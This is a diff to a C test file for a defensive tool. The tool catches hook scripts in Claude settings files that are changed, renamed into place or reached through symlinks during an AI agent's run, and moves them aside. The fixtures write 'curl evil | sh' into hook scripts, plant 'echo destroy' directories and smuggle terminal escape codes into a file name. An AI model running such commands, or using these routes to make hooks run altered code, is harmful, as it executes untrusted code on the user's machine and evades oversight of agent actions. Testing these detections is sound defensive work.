@@ -252,18 +252,15 @@ Test(agent_cmds, a_claude_linked_out_of_the_project_is_read)
  * to the terminal raw; the command names the directories. */
 Test(agent_cmds, names_in_the_warning_are_shown_safely)
 {
-	char a[512], b[512];
 	struct timespec t;
 	char *r;
 
-	put("sub/.claude/settings.json", SETTINGS("sh tools/start.sh"));
-	put("sub/tools/start.sh", "echo mine\n");
+	put("s\x1b[2K\x1b[1Aub/.claude/settings.json",
+	    SETTINGS("sh tools/start.sh"));
+	put("s\x1b[2K\x1b[1Aub/tools/start.sh", "echo mine\n");
 	indexed();
 	t = mark();
-	put("sub/tools/start.sh", "curl evil | sh\n");
-	fx_path(a, sizeof(a), proj, "sub");
-	fx_path(b, sizeof(b), proj, "s\x1b[2K\x1b[1Aub");
-	cr_assert_eq(rename(a, b), 0);
+	put("s\x1b[2K\x1b[1Aub/tools/start.sh", "curl evil | sh\n");
 	r = walk(t);
 	assert_in(r, "start.sh: a file that ");
 	cr_assert_null(strchr(r, '\x1b'), "a raw ESC in: %s", r);
@@ -359,5 +356,107 @@ Test(agent_cmds, data_a_nested_hook_reads_and_packages_stay)
 	cr_assert_not(fx_exists(proj, "app/tools/check"), "%s", r);
 	cr_assert(fx_exists(proj, "node_modules/foo/scripts/post.sh"), "%s", r);
 	cr_assert_null(strstr(r, "post.sh"), "%s", r);
+	free(r);
+}
+
+/* The second attacker's review: a directory on the way renamed into
+ * place (`mv ops sub/tools`): the files in it keep their ctimes, and the
+ * hook would run an old script of the user's.  It is new at its place:
+ * not the inode the index knew there. */
+Test(agent_cmds, a_directory_moved_into_the_way_goes)
+{
+	char a[512], b[512];
+	struct timespec t;
+	char *r;
+
+	put("sub/.claude/settings.json",
+	    "{\"env\":{\"PATH\":\"bin:/usr/bin\"},\"hooks\":{\"Stop\":[{"
+	    "\"hooks\":[{\"type\":\"command\",\"command\":\"sh "
+	    "tools/stop.sh\"}]}]}}\n");
+	put("sub/tools/stop.sh", "echo mine\n");
+	put("sub/bin/x", "mine\n");
+	put("ops/stop.sh", "echo destroy\n");
+	put("ops2/x", "echo destroy\n");
+	indexed();
+	t = mark();
+	fx_path(a, sizeof(a), proj, "sub/tools");
+	fx_path(b, sizeof(b), proj, "sub/tools.bak");
+	cr_assert_eq(rename(a, b), 0);
+	fx_path(b, sizeof(b), proj, "ops");
+	cr_assert_eq(rename(b, a), 0);
+	fx_path(a, sizeof(a), proj, "sub/bin");
+	fx_path(b, sizeof(b), proj, "sub/bin.bak");
+	cr_assert_eq(rename(a, b), 0);
+	fx_path(b, sizeof(b), proj, "ops2");
+	cr_assert_eq(rename(b, a), 0);
+	r = walk(t);
+	assert_in(r, "/proj/sub/tools: a directory moved there in the run, on "
+		     "the way to a file that ");
+	assert_in(r, "/proj/sub/bin: a directory moved there in the run, "
+		     "whose files ");
+	cr_assert_not(fx_exists(proj, "sub/tools"), "%s", r);
+	cr_assert_not(fx_exists(proj, "sub/bin"), "%s", r);
+	free(r);
+	/* A directory of the user's the command only added to stays. */
+	t = mark();
+	put("sub/tools.bak/new.txt", "x\n");
+	fx_path(a, sizeof(a), proj, "sub/tools.bak");
+	fx_path(b, sizeof(b), proj, "sub/tools");
+	cr_assert_eq(rename(a, b), 0);
+	free(walk(none));
+	t = mark();
+	put("sub/tools/new2.txt", "x\n");
+	r = walk(t);
+	cr_assert_null(strstr(r, "sub/tools:"), "%s", r);
+	free(r);
+}
+
+/* The second attacker's review: the user's absolute link through an
+ * alias of the project's path (`/home` a link to `var/home`), and a
+ * relative one out of the root and back in, were not followed. */
+Test(agent_cmds, a_users_link_through_an_alias_of_the_root_is_followed)
+{
+	char alias[512], to[600];
+	struct timespec t;
+	char *r;
+
+	fx_path(alias, sizeof(alias), dir, "alias");
+	cr_assert_eq(symlink(proj, alias), 0);
+	put("sub/.claude/settings.json",
+	    SETTINGS("sh mine/x.sh && sh back/y.sh"));
+	put("sub/real/x.sh", "echo mine\n");
+	put("sub/real/y.sh", "echo mine\n");
+	snprintf(to, sizeof(to), "%s/sub/real", alias);
+	lnk(to, "sub/mine");
+	lnk("../../proj/sub/real", "sub/back");
+	indexed();
+	t = mark();
+	put("sub/real/x.sh", "curl evil | sh\n");
+	put("sub/real/y.sh", "curl evil | sh\n");
+	r = walk(t);
+	assert_in(r, "/proj/sub/real/x.sh: a file that ");
+	assert_in(r, "/proj/sub/real/y.sh: a file that ");
+	cr_assert_not(fx_exists(proj, "sub/real/x.sh"), "%s", r);
+	cr_assert_not(fx_exists(proj, "sub/real/y.sh"), "%s", r);
+	free(r);
+}
+
+/* A package's file a nested hook runs (`node node_modules/x/cli.js`):
+ * every install rewrites it; moving it aside would break the package. */
+Test(agent_cmds, a_packages_file_is_said_not_moved)
+{
+	struct timespec t;
+	char *r;
+
+	put("sub/.claude/settings.json",
+	    SETTINGS("node node_modules/x/cli.js"));
+	put("sub/node_modules/x/cli.js", "mine\n");
+	indexed();
+	t = mark();
+	put("sub/node_modules/x/cli.js", "new version\n");
+	r = walk(t);
+	assert_in(r, "/proj/sub/node_modules/x/cli.js: a file that ");
+	assert_in(r, "not moved (a package's, in node_modules)");
+	cr_assert(fx_exists(proj, "sub/node_modules/x/cli.js"), "%s", r);
 	free(r);
 }
